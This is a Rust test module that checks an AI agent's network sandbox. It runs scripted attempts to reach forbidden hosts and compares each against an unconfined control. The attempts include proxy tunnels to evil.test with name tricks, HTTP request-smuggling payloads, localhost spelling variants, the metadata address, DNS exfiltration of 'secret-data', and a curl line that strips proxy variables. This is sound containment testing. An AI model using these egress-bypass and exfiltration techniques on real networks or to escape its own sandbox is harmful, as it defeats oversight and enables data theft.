//! Attempts to reach other machines than the ones that policy names, by an agent that has a
//! network. Judged by what arrives there. The control is the same attempt by an agent whose policy
//! lets it through, or where no policy could, without the sandbox.

use serde_json::{Value, json};

use crate::{
    room::{Room, Seen},
    upstream::Machines,
    world::{World, command},
};

/// How an attempt is shown to work where nothing stands in the way.
enum Control {
    /// By the agent whose policy allows it.
    Allowed,
    /// By the same program without the sandbox, with these arguments.
    Free(Vec<String>),
}

type Judge = Box<dyn Fn(&Machines, &Seen) -> bool>;

struct Attempt {
    name: String,
    tool: &'static str,
    args: Value,
    has_escaped: Judge,
    control: Control,
}

/// The agents and the map of names. `net` may reach `allowed.test`; `free` everything.
pub(crate) fn config(world: &World, machines: &Machines) -> String {
    let bin = world.at("bin");
    let Machines { tls_port, http_port, evil_port, .. } = machines;
    let agent = |name: &str, domains: &str| {
        format!(
            "[agents.{name}]\nsystem_prompt = \"test\"\ntools = [\"exec\", \"http_request\"]\n\
             roles = [\"admin\"]\nallowed_commands = [\"*\"]\n\
             allowed_paths = [{{ path = \"{bin}\", access = \"ro\" }}]\n\
             allowed_domains = [{domains}]\n"
        )
    };
    let rule = |host: &str, port: u16, more: &str| {
        format!("{{ host = \"{host}\", port = {port}, allow_private = true{more} }}")
    };
    let listed = [
        rule("allowed.test", 443, ""),
        rule("allowed.test", 80, ""),
        rule("169.254.169.254", 80, ""),
        "\"private.test:80\"".to_owned(),
        "\"*.wild.test\"".to_owned(),
    ]
    .join(", ");
    let everything =
        [rule("*", 80, ", opaque = true"), rule("*", 443, ", opaque = true")].join(", ");
    let mut names = vec![format!("\"allowed.test:443\" = \"127.0.0.1:{tls_port}\"")];
    names.push(format!("\"allowed.test:80\" = \"127.0.0.1:{http_port}\""));
    for evil in EVIL {
        for port in [80, 443] {
            names.push(format!("\"{evil}:{port}\" = \"127.0.0.1:{evil_port}\""));
        }
    }
    [
        agent("net", &listed),
        agent("free", &everything),
        format!("[egress.connect_to]\n{}\n", names.join("\n")),
    ]
    .join("\n")
}

/// Names that all lead to the machine that may not be reached.
const EVIL: [&str; 5] = [
    "evil.test",
    "private.test",
    "allowed.test.evil.test",
    "evilallowed.test",
    "secret-data.evil.test",
];

fn script(world: &World, args: &[&str]) -> Value {
    let mut line = vec!["/usr/bin/python3".to_owned(), world.at("bin/net_probe.py")];
    line.extend(args.iter().map(|a| (*a).to_owned()));
    json!({"argv": line})
}

/// Counts as escaped when anything reached the machine that may not be reached.
fn reaches(world: &World, name: &str, args: &[&str]) -> Attempt {
    Attempt {
        name: name.to_owned(),
        tool: "exec",
        args: script(world, args),
        has_escaped: Box::new(|machines, _| !machines.evil.take().is_empty()),
        control: Control::Allowed,
    }
}

impl Attempt {
    fn if_seen(mut self, judge: impl Fn(&Machines, &Seen) -> bool + 'static) -> Self {
        self.has_escaped = Box::new(judge);
        self
    }

    fn free(mut self, args: &[&str]) -> Self {
        self.control = Control::Free(args.iter().map(|a| (*a).to_owned()).collect());
        self
    }
}

/// The proxy inside the sandbox.
const PROXY: [&str; 2] = ["127.0.0.1", "3128"];

fn tunnels(world: &World) -> Vec<Attempt> {
    let ask = |name: &str, authority: &str| reaches(world, name, &["connect", authority]);
    vec![
        ask("ask for a tunnel to another host", "evil.test:80"),
        ask("the same in capitals", "EVIL.TEST:80"),
        ask("the same with a dot at the end", "evil.test.:80"),
        ask("a name that begins like an allowed one", "allowed.test.evil.test:80"),
        ask("a name that ends like an allowed one", "evilallowed.test:80"),
        reaches(world, "TLS to another name", &["tls", "203.0.113.7", "443", "evil.test"]),
        reaches(
            world,
            "another name inside an allowed tunnel",
            &["connect-tls", "allowed.test:443", "evil.test"],
        )
        .if_seen(|m, _| m.tls.take().iter().any(|t| t.starts_with("evil.test"))),
        reaches(
            world,
            "something else than TLS in a tunnel",
            &["connect-raw", "allowed.test:443", "GET / HTTP/1.1\\r\\n\\r\\n"],
        )
        .if_seen(|m, _| m.tls.take().iter().any(|t| t.contains("not TLS"))),
    ]
}

fn requests(world: &World, machines: &Machines) -> Vec<Attempt> {
    let evil = machines.evil_port.to_string();
    let http = machines.http_port.to_string();
    let by_proxy =
        |name: &str, bytes: &str| reaches(world, name, &["send-all", PROXY[0], PROXY[1], bytes]);
    let get = |url: &str, host: &str| format!("GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n");
    let plain = get("/", "evil.test");
    let mut all = vec![
        by_proxy("fetch another host by the proxy", &get("http://evil.test/", "evil.test")),
        reaches(world, "fetch another host at any address", &["send", "203.0.113.7", "80", &plain]),
        by_proxy("a name with a private address", &get("http://private.test/", "private.test")),
        by_proxy("the metadata address", &get("http://169.254.169.254/", "169.254.169.254"))
            .if_seen(|_, seen| !seen.output.contains(" 403 "))
            .free(&["send", "127.0.0.1", &evil, &get("/", "169.254.169.254")]),
        by_proxy("another Host than asked for", &get("http://allowed.test/", "evil.test"))
            .if_seen(|m, _| m.http.take().iter().any(|t| t.contains("evil.test")))
            .free(&["send", "127.0.0.1", &http, &plain]),
        by_proxy(
            "a second request to another host",
            &[get("http://allowed.test/", "allowed.test"), get("http://evil.test/", "evil.test")]
                .concat(),
        )
        .free(&["send-all", "127.0.0.1", &evil, &[plain.as_str(), &plain].concat()]),
    ];
    let inner = "GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    for (name, framing) in [
        ("length and chunks", "Content-Length: 5\\r\\nTransfer-Encoding: chunked"),
        ("two lengths", "Content-Length: 5\\r\\nContent-Length: 0"),
        ("a folded header", "Transfer-Encoding:\\r\\n chunked\\r\\nContent-Length: 5"),
        ("a space before the colon", "Transfer-Encoding : chunked\\r\\nContent-Length: 5"),
        ("an unknown encoding", "Transfer-Encoding: xchunked\\r\\nContent-Length: 5"),
        ("a bare line feed", "X: y\\nTransfer-Encoding: chunked\\r\\nContent-Length: 5"),
    ] {
        let bytes = |target: &str| {
            format!(
                "POST {target} HTTP/1.1\\r\\nHost: allowed.test\\r\\n{framing}\\r\\n\\r\\n\
                 0\\r\\n\\r\\n{inner}"
            )
        };
        all.push(
            by_proxy(&format!("smuggle by {name}"), &bytes("http://allowed.test/"))
                .if_seen(|m, _| m.http.take().iter().any(|t| t.contains("smuggled")))
                .free(&["send-all", "127.0.0.1", &http, &bytes("/")]),
        );
    }
    all
}

fn spellings(world: &World, machines: &Machines) -> Vec<Attempt> {
    let port = machines.evil_port.to_string();
    ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "localhost", "0"]
        .iter()
        .map(|spelling| {
            let authority = format!("{spelling}:{port}");
            reaches(world, &format!("this machine, spelled {spelling}"), &["connect", &authority])
                .free(&["tcp", spelling, &port])
        })
        .collect()
}

fn sockets(world: &World, machines: &Machines) -> Vec<Attempt> {
    let port = machines.evil_port.to_string();
    let udp = machines.evil_udp_port.to_string();
    let again = |name: &str, args: &[&str]| reaches(world, name, args).free(args);
    let answers = |_: &Machines, seen: &Seen| seen.output.contains("rcode 0");
    vec![
        again("connect to this machine directly", &["tcp", "127.0.0.1", &port]),
        again("send a datagram", &["udp", "127.0.0.1", &udp]),
        reaches(world, "TLS without a name", &["tls", "203.0.113.7", "443"]).free(&[
            "tls",
            "127.0.0.1",
            &port,
        ]),
        again("open a socket of another family", &["families"])
            .if_seen(|_, seen| seen.output.contains("ok ")),
        again("relay by a listener of one's own", &["relay", "18099"])
            .if_seen(|_, seen| seen.output.contains("ok relayed")),
        reaches(
            world,
            "carry data in a name",
            &["dns", "127.0.0.1", "53", "secret-data.evil.test"],
        )
        .if_seen(answers),
        reaches(
            world,
            "the same by another server",
            &["dns", "8.8.8.8", "53", "secret-data.evil.test"],
        )
        .if_seen(answers),
    ]
}

fn others(world: &World) -> Vec<Attempt> {
    let fetch = |name: &str, url: &str| Attempt {
        name: name.to_owned(),
        tool: "http_request",
        args: json!({"method": "GET", "url": url}),
        has_escaped: Box::new(|machines, _| !machines.evil.take().is_empty()),
        control: Control::Allowed,
    };
    let mut curl = reaches(world, "without the proxy's variables", &[]);
    let script = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY; \
                  curl -s -m 4 --noproxy '*' http://evil.test/ || \
                  curl -s -m 4 --noproxy '*' --resolve evil.test:80:203.0.113.7 http://evil.test/";
    curl.args = json!({"argv": ["/bin/sh", "-c", script]});
    vec![
        curl,
        fetch("the tool http_request to another host", "http://evil.test/"),
        fetch("a redirect to another host", "http://allowed.test/redirect"),
        fetch("the tool http_request to a private address", "http://private.test/"),
    ]
}

fn unconfined(world: &World, args: &[String]) -> Seen {
    let output = command("/usr/bin/python3")
        .arg(world.path("bin/net_probe.py"))
        .args(args)
        .output()
        .unwrap();
    Seen { output: String::from_utf8_lossy(&output.stdout).into_owned(), signal: None }
}

async fn by(room: &Room, agent: &str, attempt: &Attempt) -> Seen {
    let calls = [(attempt.tool, attempt.args.clone())];
    room.play(agent, &format!("{agent} {}", attempt.name), &calls).await.remove(0)
}

/// Makes every attempt and its control, and fails with all that went wrong.
pub(crate) async fn judge(world: &World, room: &Room, machines: &Machines) {
    let mut attempts = tunnels(world);
    attempts.extend(requests(world, machines));
    attempts.extend(spellings(world, machines));
    attempts.extend(sockets(world, machines));
    attempts.extend(others(world));
    let mut wrong = Vec::new();
    for attempt in &attempts {
        machines.settle();
        let seen = by(room, "net", attempt).await;
        std::thread::sleep(std::time::Duration::from_millis(60));
        if (attempt.has_escaped)(machines, &seen) {
            wrong.push(format!("{}: ESCAPED: {seen:?}", attempt.name));
        }
        machines.settle();
        let free = match &attempt.control {
            Control::Allowed => by(room, "free", attempt).await,
            Control::Free(args) => unconfined(world, args),
        };
        // What is still being read is noted when the machine gives up waiting for more.
        let works = (0..40).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(50));
            (attempt.has_escaped)(machines, &free)
        });
        if !works {
            wrong.push(format!("{}: the control proves nothing: {free:?}", attempt.name));
        }
        let short = |seen: &Seen| {
            seen.output.lines().next().unwrap_or("").chars().take(30).collect::<String>()
        };
        println!("{:<46} confined: {:<32} free: {}", attempt.name, short(&seen), short(&free));
    }
    println!("{} attempts on the network, {} wrong", attempts.len(), wrong.len());
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// What is allowed gets through by every door, or the attempts above would prove nothing.
pub(crate) async fn allowed_gets_through(world: &World, room: &Room, machines: &Machines) {
    let curl = |script: &str| json!({"argv": ["/bin/sh", "-c", script]});
    let off = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY;";
    for (name, tool, args) in [
        ("HTTP by the proxy", "exec", curl("curl -sS -m 9 http://allowed.test/")),
        ("TLS by the proxy", "exec", curl("curl -sSk -m 9 https://allowed.test/")),
        (
            "HTTP without the proxy",
            "exec",
            curl(&format!("{off} curl -sS -m 9 http://allowed.test/")),
        ),
        (
            "TLS without the proxy",
            "exec",
            curl(&format!("{off} curl -sSk -m 9 https://allowed.test/")),
        ),
        (
            "TLS by python",
            "exec",
            script(world, &["connect-tls", "allowed.test:443", "allowed.test"]),
        ),
        (
            "capitals and a dot",
            "exec",
            script(world, &["connect-tls", "Allowed.TEST.:443", "allowed.test"]),
        ),
        ("http_request", "http_request", json!({"method": "GET", "url": "http://allowed.test/"})),
    ] {
        machines.settle();
        let seen = room.play("net", &format!("allowed {name}"), &[(tool, args)]).await.remove(0);
        assert!(seen.output.contains("hello,"), "{name}: {seen:?}\n{}", room.daemon.log());
    }
}
